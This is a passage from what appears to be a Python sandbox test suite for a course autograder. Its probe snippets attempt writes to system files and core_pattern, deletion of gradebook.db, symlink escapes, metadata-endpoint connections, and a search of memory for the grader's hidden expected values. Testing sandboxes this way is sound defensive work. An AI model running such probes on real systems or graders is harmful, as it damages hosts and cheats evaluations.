             '/course/autograder/worker/plain.py', '/usr/bin/written', '/etc/written', '/dev/written', '/written', '/proc/sys/kernel/core_pattern',
             '/proc/self/root{course}/written'):
    for mode in ('w', 'a', 'r+'):
        try: open(path, mode).write('written')
        except OSError: pass
        else: print('the-answer-is-6e4a1f', path)
for path in ('{course}', '/course', '/usr', '/notebook/..'):
    for call in (lambda: os.mkdir(path + '/written'), lambda: os.chmod(path, 0o777), lambda: os.rename(path, path + '-'),
                 lambda: os.symlink('/', path + '/link'), lambda: os.utime(path), lambda: os.unlink(path + '/gradebook.db')):
        try: call()
        except OSError: pass
        else: print('the-answer-is-6e4a1f', path)
"""

READS: Final = [
    Attack("files", "everything read", _in_f(_READS)),
    Attack("files", "everything written to", _in_f(_WRITES)),
    Attack(
        "files",
        "links that lead out",
        _in_f(
            "import os\nfor name, to in (('a', '{course}/gradebook.db'), ('b', '{course}'), ('c', '/'), ('d', 'd')):\n    os.symlink(to, name)\n    os.symlink(to, f'/tmp/{name}')\n    try: print(open(name).read())\n    except OSError: pass"
        ),
    ),
    Attack(
        "files",
        "files that are hard to remove",
        _in_f(
            "import os\nos.mkdir('a')\nopen('a/b', 'w').close()\nos.chmod('a', 0)\nopen('\\n\\udcff', 'w').close()\nos.mkfifo('pipe')\nfor call in (lambda: os.chmod('/notebook', 0), lambda: os.chmod('/tmp', 0), lambda: os.setxattr('/tmp', 'user.a', b'1')):\n    try: call()\n    except OSError: pass"
        ),
    ),
    Attack(
        "files",
        "the tests and their expected values, looked for",
        _in_f(
            "import gc, sys\nfound = [one for one in gc.get_objects() if type(one) in (dict, list, tuple)]\nprint([str(one)[:1000] for one in found if 'assert_allclose' + '(f(' in str(one)[:10000]])\nframe = sys._getframe()\nwhile frame:\n    if 'expected' in frame.f_locals: print('the-answer-is-6e4a1f')\n    frame = frame.f_back"
        ),
    ),
]

NETWORK: Final = [
    Attack(
        "network",
        "somebody on this machine",
        _in_f(
            "import socket\nfor host in ('127.0.0.1', 'localhost', '::1', '0.0.0.0'):\n    try: print(socket.create_connection((host, {there}), 0.2).recv(100))\n    except OSError: pass"
        ),
        around=_listening,
    ),
    Attack(
        "network",
        "names, metadata and the world",
        _in_f(
            "import socket\nfor where in (('169.254.169.254', 80), ('1.1.1.1', 53), ('example.org', 80), ('10.0.0.1', 22)):\n    try: socket.create_connection(where, 0.2)\n    except OSError: pass\n    else: print('the-answer-is-6e4a1f')"
        ),
    ),
    Attack(
        "network",
        "other kinds of sockets",
        _in_f(
            "import socket\nfor family in range(3, 46):\n    if family == socket.AF_INET6: continue\n    for kind in (1, 2, 3, 5):\n        try: socket.socket(family, kind)\n        except OSError: pass\n        else: print('the-answer-is-6e4a1f', family)"
        ),
    ),
]

ATTACKS: Final = [
    *(*CLAIMS, *SHOWS, *PATCHES, *CHANNEL, *LARGE, *PASSED, *BOMBS, *TIME, *ENDS, *OTHERS),
    *(*READS, *NETWORK),
]
